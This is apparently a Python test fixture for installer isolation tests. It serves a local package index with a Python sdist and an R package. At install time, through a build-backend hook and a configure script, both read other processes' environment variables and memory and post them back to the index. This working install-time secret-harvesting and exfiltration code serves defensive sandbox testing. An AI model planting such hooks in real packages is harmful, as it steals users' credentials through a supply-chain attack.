#!/usr/bin/env python3
"""A package index whose packages attack at install time, for the installer isolation tests.

It serves, over plain HTTP on the host's 127.0.0.1:
- a Python sdist, steal-probe, with its own in-tree build backend (no build requirements, so pip
  fetches nothing else), from a pip --find-links page at /;
- an R source package, stealr, from a CRAN-like repository at /src/contrib/, whose configure
  script runs at install time.

Both run the same code while they are installed: it reads the environment of every other
process it can see (/proc/*/environ) and the start of its memory (/proc/*/mem), and posts what
it found back here (POST /steal), the way a hostile package would send a secret out through the
installer's own network. Every post is appended to stolen.log in the directory given, and every
request's path to requests.log. Prints its port once it listens, then serves until killed."""

import os
import sys
import textwrap

from local_http import QuietHandler, serve, tarball

root = sys.argv[1]

# What both packages run at install time. INDEX is the index's base URL, known to the
# installer's environment as the pip --find-links or R repository URL.
STEAL = textwrap.dedent("""\
    import base64, json, os, urllib.request

    def steal(index):
        found = {}
        me = os.getpid()
        for name in os.listdir('/proc'):
            if not name.isdigit() or int(name) == me:
                continue
            seen = {}
            try:
                with open('/proc/%s/environ' % name, 'rb') as environ:
                    seen['environ'] = base64.b64encode(environ.read()).decode()
            except OSError as error:
                seen['environ_refused'] = error.strerror
            try:
                with open('/proc/%s/maps' % name) as maps:
                    start, end = (int(x, 16) for x in maps.readline().split()[0].split('-'))
                with open('/proc/%s/mem' % name, 'rb') as mem:
                    mem.seek(start)
                    seen['mem'] = len(mem.read(min(end - start, 4096)))
            except (OSError, ValueError, IndexError) as error:
                seen['mem_refused'] = getattr(error, 'strerror', None) or str(error)
            found[name] = seen
        request = urllib.request.Request(index.rstrip('/') + '/steal',
                                         data=json.dumps(found).encode(), method='POST')
        urllib.request.urlopen(request, timeout=20).read()
    """)


# The build backend steals when pip asks it for anything, then builds a trivial wheel.
BACKEND = STEAL + textwrap.dedent("""\
    import hashlib, zipfile

    def _index():
        return os.environ.get('PIP_FIND_LINKS', '')

    def get_requires_for_build_wheel(config_settings=None):
        steal(_index())
        return []

    def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
        files = {
            'steal_probe/__init__.py': b'VALUE = 1\\n',
            'steal_probe-1.0.dist-info/METADATA':
                b'Metadata-Version: 2.1\\nName: steal-probe\\nVersion: 1.0\\n',
            'steal_probe-1.0.dist-info/WHEEL':
                b'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n',
        }
        record = ''
        for name, body in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b'=')
            record += '%s,sha256=%s,%d\\n' % (name, digest.decode(), len(body))
        files['steal_probe-1.0.dist-info/RECORD'] = (
            record + 'steal_probe-1.0.dist-info/RECORD,,\\n').encode()
        name = 'steal_probe-1.0-py3-none-any.whl'
        with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as archive:
            for path, body in files.items():
                archive.writestr(path, body)
        return name
    """)

SDIST_NAME = "steal-probe-1.0.tar.gz"
SDIST = tarball({
    "steal-probe-1.0/pyproject.toml":
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    "steal-probe-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: steal-probe\nVersion: 1.0\n",
    "steal-probe-1.0/backend.py": BACKEND,
})

# R runs configure with sh; the stealing is python's (the host's /usr has it), with the index
# from the installer's environment (the policy's CRAN_MIRROR).
CONFIGURE = "#!/bin/sh\npython3 - <<'EOF'\n" + STEAL + \
    "import os\nsteal(os.environ['CRAN_MIRROR'])\nEOF\nexit 0\n"
R_TARBALL_NAME = "stealr_1.0.tar.gz"
R_TARBALL = tarball({
    "stealr/DESCRIPTION": "Package: stealr\nVersion: 1.0\nTitle: Steals\nDescription: Steals.\n"
                          "Authors@R: person('A', 'B', email = 'a@b.c', role = c('aut', 'cre'))\n"
                          "License: MIT\nNeedsCompilation: no\n",
    "stealr/NAMESPACE": "export(stolen)\n",
    "stealr/R/stolen.R": "stolen <- function() TRUE\n",
    "stealr/configure": CONFIGURE,
}, modes={"stealr/configure": 0o755})
R_PACKAGES = b"Package: stealr\nVersion: 1.0\nNeedsCompilation: no\n\n"


class Index(QuietHandler):
    def log(self, name, line):
        with open(os.path.join(root, name), "a") as log:
            log.write(line + "\n")

    def do_GET(self):
        self.log("requests.log", self.path)
        path = self.path.split("?")[0]
        if path == "/":
            page = f'<a href="/{SDIST_NAME}">{SDIST_NAME}</a>'
            self.send(page.encode(), "text/html")
        elif path == "/" + SDIST_NAME:
            self.send(SDIST, "application/octet-stream")
        elif path == "/src/contrib/PACKAGES":
            self.send(R_PACKAGES, "text/plain")
        elif path == "/src/contrib/" + R_TARBALL_NAME:
            self.send(R_TARBALL, "application/octet-stream")
        else:
            self.send_error(404)

    def do_POST(self):
        length = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(length).decode("utf-8", "replace")
        self.log("requests.log", "POST " + self.path)
        self.log("stolen.log", body)
        self.send(b"thanks", "text/plain")


serve(Index)
